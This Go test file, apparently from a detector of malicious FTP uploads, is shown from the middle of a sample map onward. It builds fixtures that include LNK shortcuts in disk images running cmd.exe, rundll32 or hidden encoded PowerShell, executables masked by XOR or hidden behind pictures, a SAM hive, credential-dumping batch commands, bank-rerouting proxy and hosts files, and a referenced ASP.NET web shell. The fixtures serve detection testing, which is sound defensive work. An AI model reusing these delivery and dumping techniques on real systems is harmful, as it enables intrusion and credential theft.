	"print.ps":          "%!PS-Adobe-3.0\n<< /OutputFile (%pipe%lpr -Plaser) >> setpagedevice\n",
	"stats.pkl":         "\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x08datetime\x94\x8c\x04date\x94\x93\x94C\x04\x07\xea\x0b\x1e\x94\x85\x94R\x94.",
	"protocol0.pkl":     "cdatetime\ndate\np0\n(S'x'\ntR.",
	"cart.ser":          "\xac\xed\x00\x05sr\x00\x11java.util.HashMap\x05\x07\xda\xc1\xc3\x16`\xd1\x03",
	"package.json":      `{"scripts":{"preinstall":"node check.js","postinstall":"curl -fsSO https://registry.example/native.tgz"}}`,
	"office.pac":        `function FindProxyForURL(u,h){if(dnsDomainIs(h,".bank.example"))return "DIRECT";return "PROXY 10.0.0.8:3128";}`,
	"hosts":             "127.0.0.1 localhost\n10.0.0.7 online.bank.example test\n0.0.0.0 ads.example\n",
	"parts.php":         `<?php include("header.php"); require_once("https://static.example/menu.html"); ?>`,
	"moved.html":        `<title>Online casino</title><meta http-equiv="refresh" content="0;url=https://www.new.example/">`,
	"pills.html":        `<title>Buy cheap viagra</title><meta http-equiv="refresh" content="0;url=shop.html">`,
	"news.txt":          "[Chrome] Printing works again.\n[Outlook] So does the calendar.\n",
	"one-host.txt":      "Nmap scan report for 10.0.0.1\n22/tcp open ssh\n",
	"contact.ldif":      "dn: CN=ada,DC=corp,DC=example\nsAMAccountName: ada\n",
	"wlan.xml":          "<WLANProfile><protected>true</protected><keyMaterial>01000000D08C9DDF</keyMaterial></WLANProfile>",
	"reg.bat":           "reg save HKCU\\Software\\App app.hiv\r\nprocdump -ma app.exe\r\n",
}

// letterCodes are the codes of the letters of a text.
func letterCodes(text string) string {
	return strings.Trim(strings.ReplaceAll(fmt.Sprint([]byte(text)), " ", ","), "[]")
}

// isMalicious reports whether some content has no other use than an intruder's.
func isMalicious(list []Content) bool {
	return slices.ContainsFunc(list, func(c Content) bool { return c.Kind == Malicious || c.Kind == Secret })
}

// TestHidden looks at what hides behind and below other bytes.
func TestHidden(t *testing.T) {
	program := "MZ\x90" + strings.Repeat("\x00", 75) + "This program cannot be run in DOS mode.\r\n$" + strings.Repeat("\x00", 60)
	mask := func(key byte) string {
		b := []byte(program)
		for i := range b {
			b[i] ^= key
		}
		return string(b)
	}
	photo := "\xff\xd8\xff\xe0" + strings.Repeat("\x01\x02\x03", 999)
	for _, test := range []struct {
		about, name string
		parts       []string
		want        Kind
	}{
		{"a program behind a mask", "logo.png", []string{mask(0x5a)}, Program},
		{"other data that begins like one", "logo.png", []string{mask(0x5a)[:60] + photo}, 0},
		{"an archive behind a picture", "a.jpg", []string{photo, "\x07\xff\xd9PK\x03\x04\x14\x00"}, Disguised},
		{"an archive behind a picture, in two packets", "a.jpg", []string{photo + "\xff\xd9P", "K\x03\x04\x14\x00"}, Disguised},
		{"an archive behind a picture, in packets of two bytes", "a.jpg", []string{photo + "\xff", "\xd9P", "K\x03", "\x04\x14"}, Disguised},
		{"a film behind a picture", "a.MP.jpg", []string{photo + "\xff\xd9", "\x00\x00\x00\x18ftypmp42"}, 0},
		{"a part of the registry", "1.tmp", []string{"regf" + strings.Repeat("\x00", 44) + string(wide(`emRoot\System32\Config\SAM`)) + strings.Repeat("\x00", 99)}, Hive},
		{"the directory of Windows", "backup.bak", []string{"\x01\x02\x03\x04\xef\xcd\xab\x89" + strings.Repeat("\x00", 99), "\x00sdproptable\x00"}, Database},
	} {
		var last Content
		for _, last = range shownBy(&ftp.Transfer{Command: "STOR", Argument: test.name}, test.parts...) {
		}
		if last.Kind != test.want || test.want == Hive && last.Name != "SAM" || test.want == Database && last.Name != directory {
			t.Errorf("%s: got %v, want kind %v", test.about, last, test.want)
		}
	}
}

// shortcutTo is a shortcut of Windows to a program, perhaps with arguments.
func shortcutTo(program, arguments string) string {
	flags := "\x88"
	if arguments != "" {
		flags = "\xa8"
	}
	text := func(s string) string { return string([]byte{byte(len(s)), 0}) + inUTF16(s)[2:] }
	link := string(shortcutHead) + flags + strings.Repeat("\x00", 55) + text(program)
	if arguments != "" {
		link += text(arguments)
	}
	return link
}

// imageWith is an image of a disk with a file in it.
func imageWith(file string) string {
	sector := func(s string) string { return s + strings.Repeat("\x00", 2048-len(s)%2048) }
	return strings.Repeat("\x00", 16*2048) + sector("\x01CD001\x01\x00 NEW") + sector("\xffCD001\x01") + sector("\x22\x00\x14INVOICE.LNK;1") + sector(file) + sector("")
}

// TestImages moves images of disks with shortcuts in them.
func TestImages(t *testing.T) {
	fat := "\xeb\x3c\x90MSDOS5.0" + strings.Repeat("\x00", 43) + "FAT12   " + strings.Repeat("\x00", 448) + "\x55\xaa" + strings.Repeat("\x00", 512)
	table := strings.Repeat("\x00", 446) + "\x80\x01\x01\x00\x07" + strings.Repeat("\x00", 59) + "\x55\xaa" + strings.Repeat("\x00", 512)
	runs := shortcutTo(`..\..\Windows\System32\cmd.exe`, "/c start documents.js") + strings.Repeat("\x00", 2048)
	for _, test := range []struct {
		about, name, content string
		want                 Kind
	}{
		{"a shortcut that runs a script", "invoice.iso", imageWith(runs), LikelyMalicious},
		{"one in an image of a floppy", "scan.img", fat + runs, LikelyMalicious},
		{"one in an image with partitions", "scan.bin", table + runs, LikelyMalicious},
		{"one in a virtual disk", "scan.vhd", "conectix" + strings.Repeat("\x00", 504) + runs, LikelyMalicious},
		{"one that runs a library", "scan.iso", imageWith(shortcutTo(`%windir%\system32\rundll32.exe`, "news.dat,Start")), LikelyMalicious},
		{"one with a hidden command", "a.iso", imageWith(shortcutTo(`powershell.exe`, "-w hidden -enc "+strings.Repeat("SQBFAFgA", 8))), Malicious},
		{"one under the name of a document", "invoice.pdf", imageWith(shortcutTo(`.\data\viewer.exe`, "")), Malicious},
		{"an image under the name of a picture", "photo.jpg", imageWith("a text"), Disguised},
		{"a shortcut to a program beside it", "drivers.iso", imageWith(shortcutTo(`.\setup.exe`, "/s")), 0},
		{"a shortcut to a shell", "rescue.iso", imageWith(shortcutTo(`%windir%\system32\cmd.exe`, "")), 0},
		{"a shortcut to settings", "system.img", imageWith(shortcutTo(`%windir%\system32\rundll32.exe`, "shell32.dll,Control_RunDLL desk.cpl")), 0},
		{"an image without a shortcut", "photos.iso", imageWith("GIF89a"), 0},
		{"a program that can make shortcuts", "tool.dat", "\x00\x01" + strings.Repeat("\x00", 600) + runs, 0},
	} {
		for _, command := range []string{"STOR", "RETR"} {
			for _, size := range []int{1448, 1001, 37} {
				var parts []string
				for part := range slices.Chunk([]byte(test.content), size) {
					parts = append(parts, string(part))
				}
				got := Kind(0)
				for _, c := range shownBy(&ftp.Transfer{Command: command, Argument: test.name}, parts...) {
					if c.Fetched && got != Malicious {
						got = c.Kind
					}
				}
				if size < 512 && (strings.HasPrefix(test.about, "one in")) {
					continue // the boot sector is not in one part
				}
				if got != test.want {
					t.Errorf("%s, %s in parts of %d bytes: got kind %d, want %d", test.about, command, size, got, test.want)
				}
			}
		}
	}
}

func TestPlanted(t *testing.T) {
	for name, content := range planting {
		if got := uploadOf(name, content); !isMalicious(got) {
			t.Errorf("%s: got %v, want something malicious", name, got)
		}
	}
	for name, content := range harmless {
		got := slices.DeleteFunc(uploadOf(name, content), func(c Content) bool { return c.Kind == Boast }) // which several pages must have
		if len(got) > 0 {
			t.Errorf("%s: got %v, want nothing", name, got)
		}
	}
}

// TestPlantedInPieces stores a shell of ASP.NET whose parts are in different packets.
func TestPlantedInPieces(t *testing.T) {
	text := planting["cmdasp.aspx"]
	for _, at := range []int{120, 300} {
		if got := shownBy(&ftp.Transfer{Command: "STOR", Argument: "a.aspx"}, text[:at], text[at:]); !isMalicious(got) {
			t.Errorf("cut at %d: got %v, want something malicious", at, got)
		}
	}
}

// TestManyMatches doubles texts with many matches. That must not take four times the work, which shows in how often
// memory is allocated.
func TestManyMatches(t *testing.T) {
	for _, test := range []struct {
		text string
		look func([]byte) bool
	}{
		{"$a=$_GET;\neval($b);\n", runsKeptInput},
		{"lrwxrwxrwx 1 0 0 9 Jan 1 2020 a -> /\ndrwxr-xr-x 2 0 0 9 Jan 1 2020 b\n", linkIsFolder},
	} {
		work := func(n int) float64 {
			data := []byte(strings.Repeat(test.text, n))
			return testing.AllocsPerRun(1, func() {
				if test.look(data) {
					t.Errorf("%q: got true, want false", test.text)
				}
			})
		}
		if once, twice := work(100), work(200); twice > 3*once {
			t.Errorf("%q: got %v allocations, and %v for twice the text", test.text, once, twice)
		}
	}
}
